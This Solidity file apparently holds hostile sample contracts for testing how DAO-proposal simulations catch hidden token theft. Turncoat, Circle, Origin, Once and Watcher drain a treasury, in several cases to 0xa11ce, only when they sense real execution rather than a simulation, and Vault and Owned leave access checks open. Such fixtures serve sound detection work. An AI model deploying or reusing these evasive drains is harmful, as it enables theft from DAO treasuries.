// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

// What the .hex files beside it were compiled from (solc 0.8.37, runtime code; those from Turncoat on for Cancun, optimized): contracts of somebody who hides what they take.

interface T { function transfer(address,uint256) external returns(bool); function transferFrom(address,address,uint256) external returns(bool); function balanceOf(address) external view returns(uint256); function allowance(address,address) external view returns(uint256);}

contract Vault { uint256 flag; T token; address safe; mapping(address=>uint256) public balanceOf; 
  event Transfer(address indexed from, address indexed to, uint256 v);
  function deposit(uint256 a, address r) external returns(uint256) { token.transferFrom(msg.sender, address(this), a); balanceOf[r]+=a; emit Transfer(address(0), r, a); return a; }
  function redeem(uint256 a, address r, address o) external returns(uint256) { balanceOf[o]-=a; emit Transfer(o, address(0), a); token.transfer(r,a); return a; }
}

contract Silent { mapping(address=>uint256) public balanceOf; mapping(address=>mapping(address=>uint256)) public allowance;
  function withdraw(uint256 a) external { balanceOf[msg.sender]-=a; }
  function give(address a, uint256 v) external { balanceOf[a]=v; }
}

contract Gate { function transferTokens(address t,uint256 a,uint16,bytes32,uint256,uint32) external payable returns(uint64){ T(t).transferFrom(msg.sender,address(this),a); return 1;} function bridgeETHTo(address,uint32,bytes calldata) external payable {} }

contract Owned { uint256 flag; address public owner; address next; function initialize() external { owner = next; } function take(address payable p) external { require(msg.sender==owner); p.transfer(address(this).balance);} receive() external payable {} }

contract Turncoat { uint256 flag; T token; address safe;
  function settle() external { if (flag == 0) token.transfer(safe, token.balanceOf(address(this))); }
  function poke() external { if (flag != 0) token.transferFrom(safe, address(this), token.allowance(safe, address(this))); }
}

// Takes of its allowance in a simulation to give it where it came from (slot 2), or to another account of the DAO (slot 3).
contract Circle { uint256 flag; T token; address safe; address home;
  function poke() external { token.transferFrom(safe, flag == 0 ? (home == address(0) ? safe : home) : address(this), token.allowance(safe, address(this))); }
}

// Vaults of the DAO (slot 2) that pay out to 0xa11ce only where they do not see a simulation.
contract Origin { uint256 flag; T token; address safe; 
  function release() external { require(msg.sender == safe); if (tx.origin.code.length == 0) token.transfer(address(0xa11ce), token.balanceOf(address(this))); }
}

contract Once { uint256 flag; T token; address safe;
  function prepare() external { require(msg.sender == safe); assembly { tstore(0, 1) } }
  function release() external { require(msg.sender == safe); uint256 same; assembly { same := tload(0) } if (same == 1) token.transfer(address(0xa11ce), token.balanceOf(address(this))); }
}

interface G { function state(uint256) external view returns(uint8); }

contract Watcher { uint256 flag; T token; address safe; G governor; uint256 id;
  function release() external { require(msg.sender == safe); if (governor.state(id) == 7) token.transfer(address(0xa11ce), token.balanceOf(address(this))); }
}

contract Piece { uint256 flag; mapping(uint256=>address) public ownerOf; mapping(address=>uint256) public balanceOf;
  event Transfer(address indexed from, address indexed to, uint256 indexed id);
  function mint(address to, uint256 id) external { ownerOf[id] = to; balanceOf[to]++; emit Transfer(address(0), to, id); }
  function transferFrom(address f, address to, uint256 id) external { require(ownerOf[id] == f && msg.sender == f); ownerOf[id] = to; balanceOf[f]--; balanceOf[to]++; emit Transfer(f, to, id); }
  event ApprovalForAll(address indexed owner, address indexed operator, bool approved);
  function setApprovalForAll(address to, bool yes) external { emit ApprovalForAll(msg.sender, to, yes); }
  function supportsInterface(bytes4 i) external pure returns(bool) { return i == 0x80ac58cd || i == 0x01ffc9a7; }
}
